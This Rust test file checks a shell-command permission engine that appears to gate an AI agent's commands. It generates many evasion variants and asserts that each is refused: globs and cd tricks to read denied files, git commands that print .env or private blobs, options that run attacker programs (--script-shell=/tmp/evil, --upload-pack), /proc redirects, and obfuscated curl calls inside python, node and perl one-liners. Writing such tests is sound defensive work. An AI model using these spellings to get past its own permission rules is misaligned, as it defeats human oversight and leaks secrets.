//! Generated security cases for rules that commands slipped past (issue
//! 36, part 7): each class is a generator of variants, every case asserting
//! the verdict, with controls that must stay allowed.

use crate::test_fx::{Fx, check, engine, fx};
use crate::{Engine, Mode, Verdict};

/// Spellings of one command inside a larger command line.
fn wrapped(c: &str) -> Vec<String> {
    let q = c.replace('\'', "'\\''");
    vec![
        c.to_owned(),
        format!("ls && {c}"),
        format!("{c} | head"),
        format!("timeout 60 {c}"),
        format!("echo $({c})"),
        format!("bash -c '{q}'"),
        format!("if true; then {c}; fi"),
    ]
}

fn not_allowed(e: &Engine, f: &Fx, cmds: &[String]) -> Vec<String> {
    cmds.iter()
        .filter(|c| check(e, f, c) == Verdict::Allow)
        .cloned()
        .collect()
}

fn assert_none_allowed(name: &str, e: &Engine, f: &Fx, cmds: Vec<String>) {
    assert!(cmds.len() > 20, "{name}: {}", cmds.len());
    let allowed = not_allowed(e, f, &cmds);
    assert!(
        allowed.is_empty(),
        "{name}: {} of {} allowed:\n{}",
        allowed.len(),
        cmds.len(),
        allowed.join("\n")
    );
}

fn assert_all_allowed(name: &str, e: &Engine, f: &Fx, cmds: &[&str]) {
    let refused: Vec<_> = cmds
        .iter()
        .filter(|c| check(e, f, c) != Verdict::Allow)
        .collect();
    assert!(
        refused.is_empty(),
        "{name}: should be allowed: {refused:#?}"
    );
}

/// Class 1: a Read deny rule, reached through a glob or after a `cd`.
#[test]
fn read_deny_rules_hold_for_globs_and_cd() {
    let f = fx();
    std::fs::create_dir_all(f.ws.join("private")).unwrap();
    std::fs::write(f.ws.join("private/key"), "k").unwrap();
    let readers = ["cat", "head -n 5", "grep -n x", "wc -c", "base64"];
    let targets = [
        "priv*/*",
        "p*/key",
        "*/key",
        "private/*",
        "pri?ate/k*",
        "[p]rivate/key",
        "{private,x}/key",
        "./priv*/key",
        "src/../priv*/key",
        "priv*",
    ];
    let mut cmds = Vec::new();
    for r in readers {
        for t in targets {
            cmds.extend(wrapped(&format!("{r} {t}")));
        }
        for cd in [
            "cd private",
            "cd ./private/",
            "cd src/../private",
            "cd $D",
            "cd \"$(echo private)\"",
            "cd priv*",
            "pushd private",
            "cd -",
            "cd ~/../ws/private",
        ] {
            cmds.push(format!("{cd} && {r} key"));
            cmds.push(format!("{cd}; {r} ./key"));
        }
        cmds.push(format!("{r} /proc/self/cwd/private/key"));
        cmds.push(format!("{r} < /dev/fd/3/../private/key"));
    }
    for mode in [
        Mode::Plan,
        Mode::Default,
        Mode::AcceptEdits,
        Mode::Auto,
        Mode::Bypass,
    ] {
        let e = engine(
            &f,
            mode,
            &["Bash(cat:*)", "Bash(cd:*)"],
            &["Read(private/**)"],
        );
        assert_none_allowed(&format!("{mode}"), &e, &f, cmds.clone());
    }
    let e = engine(&f, Mode::Plan, &[], &["Read(private/**)"]);
    assert_all_allowed(
        "controls",
        &e,
        &f,
        &[
            "cat src/*.rs",
            "ls *.md",
            "cd src && ls",
            "wc -l src/*",
            "grep -rn x src",
        ],
    );
}

/// Class 2: git printing a blob of a secret or denied path.
#[test]
fn git_blob_readers_are_reads_of_their_paths() {
    let f = fx();
    let paths = [".env", "id_rsa", "config/.env.local", "private/key"];
    let forms = |p: &str| {
        vec![
            format!("git show HEAD:{p}"),
            format!("git show HEAD~3:./{p}"),
            format!("git show :{p}"),
            format!("git show :0:{p}"),
            format!("git cat-file -p HEAD:{p}"),
            format!("git cat-file blob v1.0:{p}"),
            format!("git rev-parse HEAD:{p}"),
            format!("git log -p -- {p}"),
            format!("git log -p -- ':(glob){p}'"),
            format!("git diff HEAD~1 -- {p}"),
            format!("git diff HEAD~1 -- '{p}'"),
            format!("git grep -n KEY -- {p}"),
            format!("git archive HEAD {p}"),
            format!("git -C . show main:{p}"),
        ]
    };
    let mut cmds: Vec<String> = paths
        .iter()
        .flat_map(|p| forms(p))
        .flat_map(|c| wrapped(&c))
        .collect();
    // Pathspecs git globs itself, quoted or not.
    cmds.extend(wrapped("git log -p -- '*.env'"));
    cmds.extend(wrapped("git log -p -- 'priv*/*'"));
    for (name, e) in [
        ("plan", engine(&f, Mode::Plan, &[], &["Read(private/**)"])),
        (
            "git allowed",
            engine(&f, Mode::Default, &["Bash(git:*)"], &["Read(private/**)"]),
        ),
        ("auto", engine(&f, Mode::Auto, &[], &["Read(private/**)"])),
    ] {
        assert_none_allowed(name, &e, &f, cmds.clone());
    }
    let e = engine(&f, Mode::Plan, &[], &["Read(private/**)"]);
    assert_all_allowed(
        "controls",
        &e,
        &f,
        &[
            "git show HEAD:src/lib.rs",
            "git log -p -- src",
            "git diff HEAD~1 -- '*.rs'",
            "git show HEAD",
        ],
    );
}

/// Class 3: a prefix rule followed by an option that runs a program,
/// loads configuration that can name one, or writes elsewhere.
#[test]
fn prefix_rules_never_allow_risky_options() {
    let f = fx();
    let rows: &[(&str, &str, &[&str])] = &[
        (
            "Bash(npm run test:*)",
            "npm run test",
            &[
                "--script-shell=/tmp/evil",
                "--script-shell /tmp/evil",
                "--scr=/tmp/evil",
                "--userconfig=/tmp/rc",
                "--node-options=--require=/tmp/x.js",
                "--prefix /tmp/x",
                "--registry=http://evil",
                "-c 'sh x'",
            ],
        ),
        (
            "Bash(npx prettier:*)",
            "npx prettier",
            &["-c 'sh x'", "--call='sh x'", "--package=evil"],
        ),
        (
            "Bash(cargo test:*)",
            "cargo test",
            &[
                "--config 'target.x86_64-unknown-linux-gnu.runner=\"sh\"'",
                "--config=build.rustc-wrapper=/tmp/w",
                "--target-dir=/tmp/t",
                "--manifest-path=/tmp/evil/Cargo.toml",
                "-Zunstable-options",
            ],
        ),
        (
            "Bash(make test:*)",
            "make test",
            &[
                "-f /tmp/evil.mk",
                "-sf /tmp/evil.mk",
                "--eval='x:;sh'",
                "--file=/tmp/m",
                "SHELL=/tmp/evil",
                "-C /tmp/x",
            ],
        ),
        (
            "Bash(pip install:*)",
            "pip install x",
            &[
                "--target /tmp/t",
                "--prefix=/tmp",
                "-i http://evil",
                "--python=/tmp/py",
            ],
        ),
        (
            "Bash(python3 -u:*)",
            "python3 -u",
            &["-c 'import os'", "-m evil"],
        ),
        (
            "Bash(git fetch:*)",
            "git fetch",
            &["--upload-pack='sh -c x'", "-u 'sh -c x' origin", "--upl=sh"],
        ),
        (
            "Bash(git -C sub:*)",
            "git -C sub",
            &["-c core.pager=sh log", "--exec-path=/tmp log"],
        ),
        (
            "Bash(git grep:*)",
            "git grep",
            &["-O sh foo", "--open-files-in-pager=sh foo"],
        ),
        (
            "Bash(git format-patch:*)",
            "git format-patch",
            &["-o /tmp/x HEAD~1"],
        ),
    ];
    for (rule, base, risky) in rows {
        let e = engine(&f, Mode::Default, &[rule], &[]);
        let cmds: Vec<String> = risky
            .iter()
            .flat_map(|r| wrapped(&format!("{base} {r}")))
            .collect();
        let allowed = not_allowed(&e, &f, &cmds);
        assert!(
            allowed.is_empty(),
            "{rule}: allowed:\n{}",
            allowed.join("\n")
        );
    }
    // Ordinary options still ride on the rule.
    for (rule, ok) in [
        (
            "Bash(cargo test:*)",
            "cargo test --release -p foo -- --nocapture",
        ),
        (
            "Bash(cargo test:*)",
            "cargo test --target x86_64-unknown-linux-gnu",
        ),
        ("Bash(npm run test:*)", "npm run test -- --watch"),
        ("Bash(npm run test:*)", "npm run test --silent"),
        ("Bash(make test:*)", "make test -j4 CC=clang"),
        ("Bash(git fetch:*)", "git fetch origin main --prune"),
    ] {
        let e = engine(&f, Mode::Default, &[rule], &[]);
        assert_eq!(check(&e, &f, ok), Verdict::Allow, "{rule}: {ok}");
    }
}

/// Class 4: redirections through the running process's paths.
#[test]
fn process_relative_redirects_are_refused() {
    let f = fx();
    let targets = [
        "/dev/fd/3/../../x",
        "/dev/fd/1/../x",
        "/dev/stdout/../x",
        "/dev/stderr/../../tmp/x",
        "/proc/self/cwd/../x",
        "/proc/self/cwd/x",
        "/proc/self/fd/3/x",
        "/proc/self/root/etc/x",
        "/proc/thread-self/cwd/../x",
        "/proc/1/cwd/x",
        "/dev/./fd/3/../x",
    ];
    let mut cmds = Vec::new();
    for t in targets {
        for r in [">", ">>", "2>", "&>", ">|"] {
            cmds.extend(wrapped(&format!("echo x {r} {t}")));
        }
    }
    for (name, e) in [
        (
            "accept-edits+rule",
            engine(&f, Mode::AcceptEdits, &["Bash(echo:*)"], &[]),
        ),
        ("auto", engine(&f, Mode::Auto, &[], &[])),
        ("bypass", engine(&f, Mode::Bypass, &[], &[])),
        ("plan", engine(&f, Mode::Plan, &[], &[])),
    ] {
        assert_none_allowed(name, &e, &f, cmds.clone());
    }
    let e = engine(&f, Mode::AcceptEdits, &["Bash(echo:*)"], &[]);
    assert_all_allowed(
        "sinks",
        &e,
        &f,
        &[
            "echo x > /dev/null",
            "echo x 2> /dev/stderr",
            "echo x > /dev/fd/2",
            "echo x > out.txt",
        ],
    );
}

/// Class 5: a command deny rule and inline interpreter code.
#[test]
fn inline_code_asks_under_a_command_deny() {
    let f = fx();
    let codes = [
        ("python3 -c", "import os;os.system('curl -s x')"),
        ("python3 -c", "import os;os.system('cu'+'rl x')"),
        ("python -c", "__import__('subprocess').run(['curl','x'])"),
        ("node -e", "require('child_process').execSync('curl x')"),
        (
            "node --eval",
            "require('child_process').execSync('c'+'url x')",
        ),
        ("perl -e", "system q(curl x)"),
        ("perl -E", "qx(cu.rl)"),
        ("ruby -e", "system 'curl x'"),
        ("php -r", "system('curl x');"),
        ("awk", "BEGIN{system(\"curl x\")}"),
    ];
    let mut cmds = Vec::new();
    for (prog, code) in codes {
        let q = code.replace('\'', "'\\''");
        cmds.extend(wrapped(&format!("{prog} '{q}'")));
        cmds.push(format!("{prog} \"$CODE\""));
    }
    for s in [
        "python3 - <<'EOF'\nimport os\nos.system('curl x')\nEOF",
        "python3 <<< \"import os\"",
        "echo 'import os' | python3",
        "bash -c \"$X\"",
        "eval \"$X\"",
        "X=curl; $X x",
        "sh -c \"$(printf c%s rl) x\"",
        "python3 -cimport\\ os",
    ] {
        cmds.extend(wrapped(s));
    }
    for mode in [Mode::Auto, Mode::Bypass, Mode::AcceptEdits] {
        let e = engine(
            &f,
            mode,
            &["Bash(python3:*)", "Bash(node:*)"],
            &["Bash(curl:*)"],
        );
        assert_none_allowed(&format!("{mode}"), &e, &f, cmds.clone());
    }
    // The code that names the denied program outright is denied.
    let e = engine(&f, Mode::Auto, &[], &["Bash(curl:*)"]);
    assert!(matches!(
        check(&e, &f, "python3 -c \"import os; os.system('curl x')\""),
        Verdict::Deny { .. }
    ));
    assert_all_allowed(
        "controls",
        &e,
        &f,
        &["python3 script.py", "cargo test", "ls | grep curl"],
    );
}

/// Runs git in `dir` with no user or system config; its stdout.
fn git(dir: &std::path::Path, args: &[&str]) -> Option<String> {
    let out = std::process::Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_AUTHOR_NAME", "t")
        .env("GIT_AUTHOR_EMAIL", "t@t")
        .env("GIT_COMMITTER_NAME", "t")
        .env("GIT_COMMITTER_EMAIL", "t@t")
        .output()
        .ok()?;
    out.status
        .success()
        .then(|| String::from_utf8_lossy(&out.stdout).trim().to_owned())
}

/// Class 2b: git printing history or objects by id, with no path named,
/// in a repository that tracks a secret-named file (`.env`, deleted since,
/// so only history holds it) and a file under `Read(private/**)`: each is
/// a read of those paths, so no mode allows it without a question. The
/// same commands in a repository that tracks neither stay allowed.
#[test]
fn git_history_of_tracked_secret_or_denied_paths_is_a_read_of_them() {
    let f = fx();
    let ws = &f.ws;
    if git(ws, &["init", "-q"]).is_none() {
        eprintln!("skipped: no git");
        return;
    }
    std::fs::create_dir_all(ws.join("private")).unwrap();
    std::fs::write(ws.join("src/lib.rs"), "fn a() {}\n").unwrap();
    std::fs::write(ws.join(".env"), "TOKEN=1\n").unwrap();
    std::fs::write(ws.join("private/secret.txt"), "TOPSECRET\n").unwrap();
    let setup = [
        &["add", "-A"][..],
        &["commit", "-qm", "one"],
        &["rm", "-q", ".env"],
        &["commit", "-qm", "two"],
    ];
    for a in setup {
        git(ws, a).unwrap();
    }
    let blob = git(ws, &["rev-parse", "HEAD:private/secret.txt"]).unwrap();
    let env_blob = git(ws, &["rev-parse", "HEAD~1:.env"]).unwrap();
    let commit = git(ws, &["rev-parse", "HEAD~1"]).unwrap();
    let short = &commit[..8];
    let forms = [
        "git log -p".to_owned(),
        "git log --patch --all".to_owned(),
        "git log -p -3 --reverse".to_owned(),
        "git log -u".to_owned(),
        "git log -U1 main".to_owned(),
        "git log --cc".to_owned(),
        "git log --word-diff".to_owned(),
        "git whatchanged -p".to_owned(),
        "git reflog -p".to_owned(),
        "git log -p -- .".to_owned(),
        "git log -p -- private".to_owned(),
        "git log -p -- ':!src'".to_owned(),
        "git log -p -- '*.txt'".to_owned(),
        "git show".to_owned(),
        "git show HEAD~1".to_owned(),
        format!("git show {commit}"),
        format!("git show {short}"),
        format!("git show {blob}"),
        format!("git show --stat {env_blob}"),
        format!("git cat-file -p {blob}"),
        format!("git cat-file blob {env_blob}"),
        "git cat-file --batch < ids.txt".to_owned(),
        "git diff HEAD~1".to_owned(),
        "git diff HEAD~1 HEAD".to_owned(),
        format!("git diff {short} HEAD"),
        "git diff --cached HEAD~1".to_owned(),
        "git diff-tree -p HEAD".to_owned(),
        "git grep -n TOP".to_owned(),
        "git grep TOP HEAD~1".to_owned(),
        "git archive HEAD".to_owned(),
        "git fast-export --all".to_owned(),
        "git format-patch --stdout HEAD~2".to_owned(),
        "git -C src log -p".to_owned(),
        "cd src && git log -p".to_owned(),
        "git --no-pager log -p".to_owned(),
    ];
    let cmds: Vec<String> = forms.iter().flat_map(|c| wrapped(c)).collect();
    for (name, e) in [
        ("plan", engine(&f, Mode::Plan, &[], &["Read(private/**)"])),
        (
            "git allowed",
            engine(&f, Mode::Default, &["Bash(git:*)"], &["Read(private/**)"]),
        ),
        ("auto", engine(&f, Mode::Auto, &[], &["Read(private/**)"])),
        (
            "default",
            engine(&f, Mode::Default, &[], &["Read(private/**)"]),
        ),
    ] {
        assert_none_allowed(name, &e, &f, cmds.clone());
    }
    let e = engine(&f, Mode::Plan, &[], &["Read(private/**)"]);
    assert_all_allowed(
        "controls",
        &e,
        &f,
        &[
            "git log --oneline",
            "git log --stat",
            "git log -Spassword --oneline",
            "git show --stat",
            "git show -s --format=%H",
            "git log -p -- src",
            "git diff --stat HEAD~1",
            "git show HEAD:src/lib.rs",
            "git cat-file -t HEAD",
            "git status --short",
        ],
    );
    // A repository that tracks no secret and nothing denied: history
    // prints freely.
    let g = fx();
    git(&g.ws, &["init", "-q"]).unwrap();
    std::fs::write(g.ws.join("src/lib.rs"), "fn a() {}\n").unwrap();
    git(&g.ws, &["add", "-A"]).unwrap();
    git(&g.ws, &["commit", "-qm", "one"]).unwrap();
    let e = engine(&g, Mode::Plan, &[], &["Read(private/**)"]);
    assert_all_allowed(
        "a repository without secrets",
        &e,
        &g,
        &["git log -p", "git show", "git diff HEAD", "git grep -n fn"],
    );
}
